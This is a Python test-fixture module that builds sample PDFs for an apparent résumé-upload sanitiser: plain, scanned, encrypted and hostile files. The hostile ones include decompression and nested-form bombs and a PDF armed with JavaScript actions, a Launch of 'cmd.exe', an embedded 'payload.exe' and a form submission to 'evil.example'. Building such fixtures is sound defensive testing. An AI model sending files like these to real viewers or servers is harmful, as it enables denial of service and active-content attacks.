"""PDF files made for tests: honest ones, scans, broken ones and hostile ones."""

# Samples and rules read better on one line.
# ruff: noqa: E501
from __future__ import annotations

import io
import zlib
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pypdf
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen.canvas import Canvas

from marketplace.pdf.results import Numbers

NUMBERS = Numbers(max_pages=20, max_characters=200_000, min_characters=50, max_bytes=5 * 1024 * 1024)
SHARED = Path(__file__).parents[2] / "shared" / "data"
LINES = (
    "Camille Durand",
    "Développeuse Python en apprentissage",
    "Je cherche une alternance dans une équipe qui travaille avec des données.",
    "Compétences : Python, PostgreSQL, Docker, C++, Node.js",
)


def text_pdf(
    pages: Sequence[Sequence[str]] = (LINES,), size: tuple[float, float] = A4, rotation: int = 0
) -> bytes:
    """Return a PDF with these lines on its pages."""
    target = io.BytesIO()
    canvas = Canvas(target, pagesize=size, invariant=1)
    for lines in pages:
        canvas.setPageRotation(rotation)
        for index, line in enumerate(lines):
            canvas.drawString(size[0] * 0.1, size[1] * 0.9 - index * 16, line)
        canvas.showPage()
    canvas.save()
    return target.getvalue()


def scan_pdf() -> bytes:
    """Return a page that is a picture."""
    from PIL import Image

    target = io.BytesIO()
    Image.new("RGB", (300, 400), "white").save(target, "PDF")
    return target.getvalue()


def encrypted_pdf(user: str, owner: str, algorithm: str = "AES-256") -> bytes:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(text_pdf()))
    writer.encrypt(user, owner, algorithm=algorithm)
    return written(writer)


def raw_pdf(objects: Sequence[bytes]) -> bytes:
    """Return a file of these objects, numbered from 1; the first is the catalogue. For what no writer would write."""
    body = bytearray(b"%PDF-1.7\n")
    places = []
    for number, content in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % place for place in places)
    body += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(body)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<</Length %d%s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def one_page(content: bytes, page: bytes = b"", catalogue: bytes = b"", more: Sequence[bytes] = (),
             font: bytes = b"/F1") -> bytes:  # fmt: skip
    """Return a page with this content stream (Helvetica as ``font``) and whatever hides in page or catalogue.

    ``more`` are objects from number 6 on.
    """
    return raw_pdf([
        b"<</Type/Catalog/Pages 2 0 R" + catalogue + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<<" + font + b" 5 0 R>>>>" + page + b">>",
        stream(content),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>",
        *more,
    ])  # fmt: skip


HELLO = (
    b"BT /F1 12 Tf 50 700 Td (Camille Durand looks for an apprenticeship as a Python developer in Lyon) Tj ET"
)


def flate_bomb() -> bytes:
    """Return a small file whose page inflates to half a gigabyte."""
    packer = zlib.compressobj(9)
    data = b"".join([*(packer.compress(b" " * 1_000_000) for _ in range(500)), packer.flush()])
    return _bomb(data)


def operator_bomb(pages: int = 20, operators: int = 150_000) -> bytes:
    """Return pages that each ask for very many operators."""
    return _bomb(zlib.compress(b"BT /F1 9 Tf (a) Tj ET\n" * operators, 9), pages)


def _bomb(data: bytes, pages: int = 1) -> bytes:
    kids = b" ".join(b"%d 0 R" % (number + 5) for number in range(pages))
    return raw_pdf([
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[" + kids + b"]/Count %d/MediaBox[0 0 595 842]>>" % pages,
        stream(data, b"/Filter/FlateDecode"),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *[b"<</Type/Page/Parent 2 0 R/Contents 3 0 R/Resources<</Font<</F1 4 0 R>>>>>>"] * pages,
    ])  # fmt: skip


def nested_forms_pdf(depth: int = 24) -> bytes:
    """Return a page whose form calls the next twice, and so on: 2^depth drawings."""
    forms = [
        stream(
            b"/X Do /X Do" if level < depth else b"BT (x) Tj ET",
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % (level + 7),
        )
        for level in range(depth + 1)
    ]
    return raw_pdf([
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</X 6 0 R>>>>>>",
        stream(b"/X Do"),
        b"<<>>",
        *forms,
        b"<<>>",
    ])  # fmt: skip


def form_pdf(value: str) -> bytes:
    """Return a page with a filled-in text field."""
    target = io.BytesIO()
    canvas = Canvas(target, pagesize=A4, invariant=1)
    canvas.drawString(60, 780, "Name:")
    canvas.acroForm.textfield(name="name", value=value, x=120, y=770, width=300, height=24)
    canvas.showPage()
    canvas.save()
    return target.getvalue()


def armed_pdf() -> bytes:
    """Return an honest page with every kind of active content pypdf can be made to write."""
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(text_pdf()))
    writer.add_attachment("payload.exe", b"MZ attached")
    writer.add_metadata({"/Author": "Camille Durand", "/Title": "private title"})
    page = writer.pages[0]
    action = _action("/JavaScript", "/JS", "app.launchURL('x')")
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
    links = [
        _action("/URI", "/URI", "https://example.com/work"),
        _action("/URI", "/URI", "javascript:alert(1)"),
        _action("/Launch", "/F", "cmd.exe"),
        _action("/GoToR", "/F", "other.pdf"),
        _action("/SubmitForm", "/F", "https://evil.example"),
        _action("/ImportData", "/F", "data.fdf"),
        action,
    ]
    page[NameObject("/Annots")] = ArrayObject(writer._add_object(_link(link)) for link in links)
    metadata = DecodedStreamObject()
    metadata.set_data(b"<x:xmpmeta>Camille</x:xmpmeta>")
    page[NameObject("/Metadata")] = writer._add_object(metadata)
    root = writer._root_object
    root[NameObject("/OpenAction")] = action
    names: Any = root["/Names"].get_object()
    names[NameObject("/JavaScript")] = DictionaryObject(
        {NameObject("/Names"): ArrayObject((TextStringObject("start"), action))}
    )
    root[NameObject("/AcroForm")] = DictionaryObject({NameObject("/XFA"): TextStringObject("<xdp/>")})
    return written(writer)


def _action(kind: str, key: str, value: str) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject(kind), NameObject(key): TextStringObject(value)})


def _link(action: DictionaryObject) -> DictionaryObject:
    return DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"),
        NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject(NumberObject(value) for value in (60, 700, 200, 720)),
        NameObject("/A"): action,
    })  # fmt: skip


def written(writer: pypdf.PdfWriter) -> bytes:
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def text_of(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(content)).pages)


def all_keys(content: bytes) -> set[str]:
    """Return every name that any object of the file uses as a key or as a value, as pypdf understands it."""
    reader = pypdf.PdfReader(io.BytesIO(content))
    seen: set[str] = set()
    done: set[int] = set()
    stack: list[object] = [reader.trailer]
    while stack:
        item = stack.pop()
        item = item.get_object() if isinstance(item, pypdf.generic.IndirectObject) else item
        if id(item) in done:
            continue
        done.add(id(item))
        if isinstance(item, DictionaryObject):
            seen.update(map(str, item))
            stack.extend(item.raw_get(key) for key in item)
        elif isinstance(item, ArrayObject):
            stack.extend(item)
        elif isinstance(item, NameObject):
            seen.add(str(item))
    return seen
